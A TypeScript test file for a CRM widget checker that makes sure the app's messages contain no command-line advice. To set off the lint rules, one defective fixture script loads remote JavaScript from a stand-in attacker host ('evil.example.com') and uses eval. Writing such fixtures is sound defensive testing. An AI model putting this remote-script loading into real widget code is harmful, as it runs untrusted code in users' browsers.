import { afterAll, describe, expect, it } from 'vitest';
import { checkWidget } from '../../shared/check/check-widget';
import type { Finding } from '../../shared/model/finding';
import type { WidgetSnapshot } from '../../shared/model/snapshot';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describeError } from '../../electron/main/error-info';
import { fixWidgetFolder } from '../../electron/services/widget-fixer';
import { makeLogoSet } from '../../electron/services/image-studio';
import { formatWarnings } from '../../electron/services/image-studio/image-table';
import { readWidget } from '../../electron/services/widget-reader';
import { solid } from '../electron/services/image-studio/test-images';
import { craftZip } from '../electron/services/widget-on-disk';
import { appActionOf, appActionText } from '../../renderer/src/i18n/app-actions';
import { initI18n, RESOURCES } from '../../renderer/src/i18n/i18n';
import { defectiveWidgetFolder, nestedRootZip, removeTempDirs, tempDir } from '../e2e/fixtures';
import { wizardDefectiveFolder } from '../e2e/wizard-fixtures';
import { snapshotFromFiles, validI18n, validImageInfo, validManifest, validWidgetFiles } from '../helpers/widget-fixture';

/** Command-line advice the app must never show: a flag, a `widget-publisher <command>`, editing the config file by hand. */
const CLI_ADVICE: readonly RegExp[] = [
  /(^|[\s`"'(])--[a-z][a-z-]+/i,
  /widget-publisher\s+(init|check|fix|pack|images|slides|message|docs)\b/i,
  /(edit|in|to)\s+widget-publisher\.json/i,
  /widget-publisher\.json\s+(or|и|или)\b/i,
];

function cliAdviceIn(text: string): RegExp | undefined {
  return CLI_ADVICE.find((pattern) => pattern.test(text));
}

function stringsOf(value: unknown, path: string, out: Array<[string, string]>): void {
  if (typeof value === 'string') out.push([path, value]);
  else if (value && typeof value === 'object') for (const [key, child] of Object.entries(value)) stringsOf(child, `${path}.${key}`, out);
}

/** Defective widgets that between them set off most rules, built in memory like the rule tests do. */
function defectiveSnapshots(): Array<[string, WidgetSnapshot]> {
  const bom = new Uint8Array([0xef, 0xbb, 0xbf, 0x7b, 0x7d]);
  const manifest = validManifest('amocrm') as Record<string, Record<string, unknown>>;
  manifest.widget.locale = ['ru', 'en', 'es'];
  manifest.widget.version = '1.9';
  manifest.widget.support = { link: 'http://amocrm.ru/support', email: 'help@' };
  manifest.locations = ['lcard-1', 'digital_pipeline', 'cucard-1', 'lcard-2', ''] as unknown as Record<string, unknown>;
  manifest.settings = { login: { name: 'Login', type: 'Text', required: 'true' } };
  const en = validI18n('en') as { widget: Record<string, string> };
  en.widget.name = 'Deals to Telegram and WhatsApp notifications';
  en.widget.description = 'Ваш виджет на https://acme.ru';
  const script = `define(['jquery'], function ($) {
  var CustomWidget = function () {
    var s = document.createElement('script');
    alert('x'); debugger; console.log(1); eval('1');
    var x = new XMLHttpRequest(); x.open('GET', '/a', false);
    $.getScript('https://evil.example.com/a.js');
    APP.constant = 1; leaked = 2;
    // var a = AMOCRM.constant('account').id;
    this.callbacks = { render: function () { return false; } };
    return this;
  };
  return CustomWidget;
});
`;
  const defective = snapshotFromFiles(
    {
      ...validWidgetFiles(),
      'manifest.json': manifest,
      'i18n/en.json': en,
      'i18n/de.json': { widget: { name: '' } },
      'script.js': script.replace(/\n/g, '\r\n'),
      'style.css': bom,
      'css/app.css': '@import url("https://cdn.example.com/x.css");\ninput { color: red }\n.control-select { color: red }\n:root { --x: 1 }\n',
      'lib/min.js': `var a=1;${'b=2;'.repeat(2000)}`,
      'templates/a.twig': '<div>Открыть заказ</div>',
      '.DS_Store': 'x',
      'notes.log': 'x',
    },
    { images: { ...validImageInfo(), 'images/logo_main.png': { format: 'jpeg', width: 500, height: 300, bytes: 400_000 } } },
  );
  const noManifest = snapshotFromFiles({ 'src/manifest.json': '{}', 'Script.js': 'x' });
  const zip = snapshotFromFiles({ ...validWidgetFiles(), '__MACOSX/x': 'x', 'script.js': bom }, { kind: 'zip', nestedRoot: 'widget' });
  const kommo = snapshotFromFiles({ ...validWidgetFiles('kommo'), 'i18n/en.json': '{ "widget": { "name": "x", } }' });
  return [
    ['defective folder', defective],
    ['folder without a manifest', noManifest],
    ['zip with a nested root', zip],
    ['kommo widget with broken JSON', kommo],
  ];
}

afterAll(removeTempDirs);

describe('the app shows no command-line advice', () => {
  it('in any English or Russian string of its own', () => {
    for (const language of ['en', 'ru'] as const) {
      const strings: Array<[string, string]> = [];
      stringsOf(RESOURCES[language].translation, language, strings);
      expect(strings.length).toBeGreaterThan(300);
      for (const [path, text] of strings) expect({ path, text, found: cliAdviceIn(text) }).toEqual({ path, text, found: undefined });
    }
  });

  it('in the advice and actions of every finding on the defective fixtures, in both languages', async () => {
    const findings: Finding[] = [];
    for (const [, snapshot] of defectiveSnapshots()) findings.push(...checkWidget(snapshot, {}).findings);
    for (const folder of [await defectiveWidgetFolder(), await wizardDefectiveFolder(), await nestedRootZip()]) {
      const { snapshot, config } = await readWidget(folder);
      findings.push(...checkWidget(snapshot, { config }).findings);
    }
    const rules = new Set(findings.map((finding) => finding.ruleId));
    // The fixtures must keep setting off most of the catalogue, or this test would pass on nothing.
    expect(rules.size).toBeGreaterThanOrEqual(35);

    for (const language of ['en', 'ru'] as const) {
      const i18n = await initI18n(language);
      const t = (key: string, values?: Record<string, string>) => i18n.t(key, values);
      for (const finding of findings) {
        const message = language === 'ru' ? finding.messageRu : finding.message;
        // Every finding says what to do, in the app's language: no rule is left with its advice in the message only.
        expect({ rule: finding.ruleId, message, help: finding.help?.[language] ?? null }).toEqual({ rule: finding.ruleId, message, help: expect.any(String) });
        const shown = [message, finding.help?.[language] ?? ''];
        for (const action of finding.actions ?? []) {
          const app = appActionOf(action);
          if (!app) continue;
          const words = appActionText(app, t);
          // A key with no text would show the key itself: every action has words in both languages.
          expect(words).not.toMatch(/^wizard\./);
          shown.push(words);
        }
        for (const text of shown) expect({ rule: finding.ruleId, text, found: cliAdviceIn(text) }).toEqual({ rule: finding.ruleId, text, found: undefined });
      }
    }
  });

  it('in the notice shown when a widget cannot be opened or fixed', async () => {
    const folder = await tempDir('wp-no-cli-');
    const manifest = { name: 'manifest.json', data: new TextEncoder().encode('{}') };
    const broken: Record<string, Uint8Array> = {
      'renamed.zip': new TextEncoder().encode('Rar! not a zip'),
      'cut.zip': craftZip([manifest, { name: 'script.js', data: new TextEncoder().encode('x'.repeat(4000)) }]).subarray(0, 60),
      // Method 12 is bzip2: the marketplace may not unpack it.
      'bzip2.zip': craftZip([{ ...manifest, method: 12 }, { name: 'script.js', data: new TextEncoder().encode('x'), method: 12 }]),
    };
    const notices: string[] = [];
    for (const [name, bytes] of Object.entries(broken)) {
      const path = join(folder, name);
      await writeFile(path, bytes);
      const error = await readWidget(path).then(
        () => null,
        (caught: unknown) => caught,
      );
      // Each one is refused with a notice for the user, not read as a widget and not a crash.
      expect({ name, kind: describeError(error, () => undefined).kind }).toEqual({ name, kind: 'user' });
      notices.push(describeError(error, () => undefined).message);
    }
    const zip = await nestedRootZip();
    const fixOnZip = await fixWidgetFolder(zip, (await readWidget(zip)).snapshot).catch((caught: unknown) => caught);
    notices.push(describeError(fixOnZip, () => undefined).message);
    // The cases reach the notices they are meant to: not a zip, damaged, an unsupported compression, fix on a zip.
    expect(notices.join('\n')).toMatch(/not a zip archive[\s\S]*cannot be read[\s\S]*bzip2[\s\S]*works on a widget folder/);
    for (const text of notices) expect({ text, found: cliAdviceIn(text) }).toEqual({ text, found: undefined });
  });

  it('in the warnings the image studio shows in Branding, which the command line still words with its option', async () => {
    // A wide wordmark is a speck in the small square sizes: the studio says to give a square mark.
    const { warnings } = await makeLogoSet(await solid(900, 300, '#333333', 4));
    expect(warnings.map((warning) => warning.advice)).toEqual(['small-logo']);
    expect(formatWarnings(warnings)).toContain('--small <image>');
    for (const language of ['en', 'ru'] as const) {
      const i18n = await initI18n(language);
      for (const warning of warnings) {
        // As BrandingStep shows it: the studio's message, then the app's own words for the advice.
        const shown = `${warning.message} ${i18n.t(`wizard.branding.warningAdvice.${warning.advice}`, { row: i18n.t('wizard.branding.square') })}`;
        expect(shown).toContain(language === 'en' ? '“Small logo (optional)” row' : '«Маленький логотип (необязательно)»');
        expect({ shown, found: cliAdviceIn(shown) }).toEqual({ shown, found: undefined });
      }
    }
  });

  it('catches the advice it is meant to keep out', () => {
    expect(cliAdviceIn('run `widget-publisher fix <folder>`')).toBeDefined();
    expect(cliAdviceIn('set moderation.integrationId in widget-publisher.json or pass --integration-id')).toBeDefined();
    expect(cliAdviceIn('make it with --small')).toBeDefined();
    expect(cliAdviceIn('Edit widget-publisher.json by hand')).toBeDefined();
    expect(cliAdviceIn('Name your root in Code check › Check settings › CSS root selectors')).toBeUndefined();
    expect(cliAdviceIn('Windows line endings — 3 lines')).toBeUndefined();
  });
});
